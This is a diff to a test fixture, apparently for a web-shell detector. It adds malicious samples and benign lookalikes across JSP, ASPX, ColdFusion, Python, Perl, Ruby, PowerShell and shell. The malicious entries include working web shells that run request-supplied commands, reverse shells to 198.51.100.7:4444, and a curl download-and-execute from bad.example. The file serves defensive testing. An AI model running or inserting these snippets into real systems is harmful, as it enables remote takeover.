@@ -22,6 +22,18 @@ export const MALICIOUS_LANGUAGES: Named = {
   'jsp: a page that is written': jsp(
     'new FileOutputStream(application.getRealPath("/") + "a.jsp").write(request.getParameter("b").getBytes());',
   ),
+  'jsp: a command from a list': jsp(
+    'String c = request.getParameter("c"); String[] a = {"/bin/sh", "-c", c}; Runtime.getRuntime().exec(a);',
+  ),
+  'aspx: a page that is written': `<%@ Page Language="C#" %><% File.WriteAllBytes(Server.MapPath("a.aspx"), Decode(Request["c"])); %>`,
+  'cfm: a file named by the request': `<cffile action="write" file="#form.p#" output="#form.c#">`,
+  'python: a command by way of a function': `import os, cgi\nform = cgi.FieldStorage()\ndef run(c):\n    return os.popen(c).read()\nprint(run(form.getvalue('cmd')))\n`,
+  'perl: a command behind a pipe': `#!/usr/bin/perl\nuse CGI;\nmy $c = param('c');\nopen(P, "$c 2>&1 |"); print <P>;\n`,
+  'ruby: a shell for another host': `require 'socket'\ns = TCPSocket.new('198.51.100.7', 4444)\nwhile (c = s.gets)\n  IO.popen(c, 'r') { |io| s.print io.read }\nend\n`,
+  'powershell: a file of everybody, out of sight': 'powershell -w hidden -File C:\\Users\\Public\\a.ps1\n',
+  'shell: lines of another host that are run': `#!/bin/bash\nexec 5<>/dev/${'tcp'}/198.51.100.7/4444; cat <&5 | while read line; do $line 2>&5 >&5; done\n`,
+  'shell: a hidden file that is run':
+    '#!/bin/sh\ncurl -s https://bad.example/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x &\n',
 };
 
 export const CLEAN_LANGUAGES: Named = {
@@ -54,4 +66,28 @@ export const CLEAN_LANGUAGES: Named = {
   ),
   'jsp: a word in a page': jsp('String myShell = "The seashell by the door"; out.print(myShell);'),
   'jsp: a shop of shells': `<%@ page import="java.util.*" %><h1>myshell.example</h1><% out.print(escape(request.getParameter("name"))); %>`,
+  'jsp: a fixed command': jsp('Runtime.getRuntime().exec("uptime"); out.print(request.getParameter("t"));'),
+  'jsp: free memory': jsp('out.print(Runtime.getRuntime().freeMemory() + request.getHeader("Accept"));'),
+  'aspx: a log of its own': `<%@ Page Language="C#" %><% Show(Request.QueryString["q"]); var w = new StreamWriter(Server.MapPath("~/App_Data/log.txt"), true); %>`,
+  'cfm: a log of its own': `<cfset name = form.name><cffile action="append" file="/logs/a.txt" output="hit">`,
+  'cfm: a fixed command': `<cfexecute name="/usr/bin/uptime" variable="u"></cfexecute><cfoutput>#u# #url.page#</cfoutput>`,
+  'python: a fixed command beside a query': `import os\nfrom flask import request\nVERSION = os.popen(f"git -C {ROOT} describe").read()\ndef version():\n    return {'v': VERSION, 'q': request.args.get('q')}\n`,
+  'perl: a mail by a program': `#!/usr/bin/perl\nuse CGI;\nmy $name = param('name');\nopen(MAIL, '|/usr/sbin/sendmail -t'); print MAIL $name; close MAIL;\n`,
+  'ruby: a port that answers': `require 'socket'\ns = TCPSocket.new('web.example', 80)\nputs \`uptime\`\ns.close\n`,
+  'powershell: a port that answers': `$s = New-Object Net.Sockets.TcpClient('web.example', 443)\n$s.GetStream() | Out-Null\nGet-Process | Sort-Object CPU\n`,
+  'powershell: a certificate that is decoded':
+    "$b = [Convert]::FromBase64String($env:CERT)\nInvoke-Expression '& certutil -importpfx C:\\certs\\a.pfx'\n",
+  'powershell: a job without a window': 'powershell -WindowStyle Hidden -File C:\\ops\\backup.ps1\n',
+  'powershell: a file of the own network':
+    'Invoke-WebRequest http://192.168.1.10/agent.ps1 -OutFile C:\\ops\\agent.ps1\n',
+  'shell: an installer of the own network':
+    '#!/bin/sh\nwget -q http://10.0.0.5/setup.sh\nchmod +x setup.sh\n./setup.sh --site vienna\n',
+  'shell: ports that are open': `#!/bin/bash\nfor p in 22 443; do timeout 1 bash -c "</dev/tcp/web.example/$p" && echo open $p 2>&1; done\n`,
+  'shell: a greeting of a mail server': `#!/bin/bash\nexec 3<>/dev/tcp/mail.example/25\necho -e "QUIT" >&3\ncat <&3\n`,
+  'shell: a key that is allowed':
+    '#!/bin/sh\necho "ssh-ed25519 AAAAC3 anna@laptop" >> ~/.ssh/authorized_keys\ncurl -fsS https://ping.example/ok\n',
+  'shell: an archive in a hidden file':
+    '#!/bin/sh\ncurl -sSL -o /tmp/.tool.tgz https://files.example/tool.tgz && tar xzf /tmp/.tool.tgz -C /opt\n',
+  'shell: a job of a user':
+    '@reboot /home/anna/.local/bin/sync.sh\n0 4 * * * wget -q https://cron.example/run\n',
 };
